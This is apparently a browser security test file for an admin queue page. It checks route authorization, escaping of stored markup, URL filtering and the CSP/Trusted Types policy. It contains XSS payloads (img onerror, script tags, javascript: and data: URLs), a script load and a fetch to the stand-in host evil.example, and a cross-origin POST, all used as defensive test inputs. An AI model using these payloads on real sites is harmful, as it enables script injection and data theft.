import { describe, expect, it } from 'vitest'
import { eventually, rowOf } from './support/page.js'
import { useStage } from './support/stage.js'

const MARKUP = '<img src=x onerror="window.broken = 1"><script>window.broken = 1</script><b>bold</b>'

/** Every route of the admin surface, as docs/http.md and the README list them. */
const ADMIN_ROUTES: readonly (readonly [method: string, path: string, body?: unknown])[] = [
  ['GET', '/admin/queue'],
  ['GET', '/api/admin/queue/limits'],
  ['PUT', '/api/admin/queue/limits', { modelId: 'flux', maxConcurrent: 50 }],
  ['GET', '/api/admin/queue/initialize'],
  ['POST', '/api/admin/queue/initialize'],
  ['GET', '/api/admin/queue/stats'],
  ['GET', '/api/admin/queue/items'],
  ['GET', '/api/admin/queue/items/1'],
  ['POST', '/api/admin/queue/items/1/cancel'],
  ['POST', '/api/admin/queue/items/1/retry'],
  ['POST', '/api/admin/queue/clear-completed'],
  ['GET', '/api/admin/queue/tickets/ada'],
  ['POST', '/api/admin/queue/tickets/ada', { amount: 1_000 }],
  ['GET', '/api/admin/queue/health'],
  ['POST', '/api/admin/queue/health', { dryRun: false }],
]

describe('what the page lets nobody do', () => {
  const stage = useStage({ worker: false })

  it.each([
    [null, 401],
    ['ada' as const, 403],
  ])('session %s: %s on the page and on every route, and nothing changes', async (as, status) => {
    const { queue, base } = stage()
    const [queueId = 0] = await stage().enqueue(1)
    const files = await stage().open()
    const assets = await files.evaluate(() =>
      [...document.querySelectorAll('[src], link[href]')].map(
        (node) =>
          new URL(node.getAttribute('src') ?? node.getAttribute('href') ?? '', location.href).pathname,
      ),
    )
    expect(assets.length).toBeGreaterThan(8)
    const page = await stage().open({ as, path: '/admin/queue' })
    stage().expectComplaint(new RegExp(`${status}.*/admin/queue`))
    stage().expectComplaint(/favicon/)
    expect(await page.locator('body').textContent()).toBe('Sign in as an admin to see this page.\n')
    for (const [method, path, body] of [...ADMIN_ROUTES, ...assets.map((asset) => ['GET', asset] as const)]) {
      const response = await page.context().request.fetch(base + path, {
        method,
        headers: { origin: base },
        ...(body === undefined ? {} : { data: body }),
      })
      expect([method, path, response.status()]).toEqual([method, path, status])
      expect(await response.text()).not.toMatch(/lighthouse|flux|queueId/)
    }
    expect(await queue.status(queueId)).toMatchObject({ status: 'queued' })
    expect(await queue.limits.get('flux')).toMatchObject({ maxConcurrent: 2 })
    expect(await queue.tickets.account('ada')).toMatchObject({ balance: 100, reserved: 1 })
  })

  it('markup in prompts, errors, ids and memos is text', async () => {
    const { queue } = stage()
    const userId = `<i>${MARKUP.slice(0, 60)}`
    await queue.tickets.grant(userId, 10, { memo: MARKUP })
    await queue.limits.set('<u>model</u>', { maxConcurrent: 2 })
    const [bad = 0] = await stage().enqueue(1, { prompt: MARKUP, userId, modelId: '<u>model</u>' })
    await queue.fail(bad, MARKUP, { lease: await queue.start(bad), retry: false })
    const page = await stage().open({ path: `/admin/queue?item=${bad}&text=${encodeURIComponent('<b>')}` })
    await eventually(() => page.locator('.error-whole').textContent(), MARKUP)
    expect(await page.locator('.prompt-whole').textContent()).toBe(MARKUP)
    expect(await rowOf(page, bad).locator('.clip').textContent()).toBe(MARKUP)
    await page.keyboard.press('Escape')
    await page.getByTitle('Show the tickets of').click()
    await eventually(() => page.locator('table.history tbody tr').count(), 3)
    await rowOf(page, bad).getByRole('button', { name: 'Retry' }).click()
    expect(await page.locator('dialog.ask').textContent()).toContain('<u>model</u>')
    expect(
      await page
        .locator('main, dialog')
        .locator('b, i:not([class], [data-taken], [data-level], .slots i), u, script')
        .count(),
    ).toBe(0)
    expect(await page.evaluate(() => 'broken' in window)).toBe(false)
  })

  const URLS: [url: string, link: boolean][] = [
    ['javascript:window.broken=1', false],
    [' javascript:window.broken=1', false],
    ['data:text/html,<script>window.broken=1</script>', false],
    ['data:image/svg+xml,<svg onload="window.broken=1"/>', false],
    ['/relative.png', false],
    [
      'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
      true,
    ],
  ]
  it('a result is a link and a picture only at an address that can run nothing', async () => {
    const ids = await stage().enqueue(URLS.length)
    for (const [index, [url]] of URLS.entries()) {
      const queueId = ids[index] as number
      await stage().queue.complete(queueId, url, { lease: await stage().queue.start(queueId) })
    }
    const page = await stage().open()
    const drawer = page.locator('dialog.drawer')
    for (const [index, [url, link]] of URLS.entries()) {
      await rowOf(page, ids[index] as number)
        .getByRole('button', { name: 'Details' })
        .click()
      await drawer.locator('.facts').waitFor()
      const hrefs = await drawer
        .locator('a')
        .evaluateAll((links) => links.map((node) => node.getAttribute('href')))
      expect([url, hrefs]).toEqual([url, link ? [url] : []])
      expect([url, await drawer.locator('img').count()]).toEqual([url, link ? 1 : 0])
      expect([url, (await drawer.textContent())?.includes(url)]).toEqual([url, !link])
      await page.keyboard.press('Escape')
    }
    expect(await page.evaluate(() => 'broken' in window)).toBe(false)
  })

  it('the policy stops what would get in anyway, and a write from another site is refused', async () => {
    const [queueId = 0] = await stage().enqueue(1)
    const page = await stage().open()
    for (const blocked of [/TrustedHTML/, /'TrustedScript'/, /TrustedScriptURL/, /policy: connect-src/])
      stage().expectComplaint(blocked)
    // What was blocked is told twice, by the browser and by its event.
    stage().expectComplaint(/policy: require-trusted-types-for|evil\.example/)
    const outcomes = await page.evaluate(async () => {
      const attempts = [
        () => {
          document.body.innerHTML = '<p>in</p>'
        },
        () => document.body.setAttribute('onclick', 'window.broken = 1'),
        () => {
          document.createElement('script').src = 'https://evil.example/1.js'
        },
        () => fetch('https://evil.example/tell'),
      ]
      const names: string[] = []
      for (const attempt of attempts) {
        try {
          await attempt()
          names.push('done')
        } catch (error) {
          names.push(error instanceof Error ? error.name : 'other')
        }
      }
      return names
    })
    expect(outcomes).toEqual(['TypeError', 'TypeError', 'TypeError', 'TypeError'])
    expect(await page.evaluate(() => 'broken' in window)).toBe(false)
    const foreign = await page
      .context()
      .request.post(`${stage().base}/api/admin/queue/items/${queueId}/cancel`, {
        headers: { origin: 'https://evil.example' },
      })
    expect(foreign.status()).toBe(403)
    expect(await stage().queue.status(queueId)).toMatchObject({ status: 'queued' })
  })
})
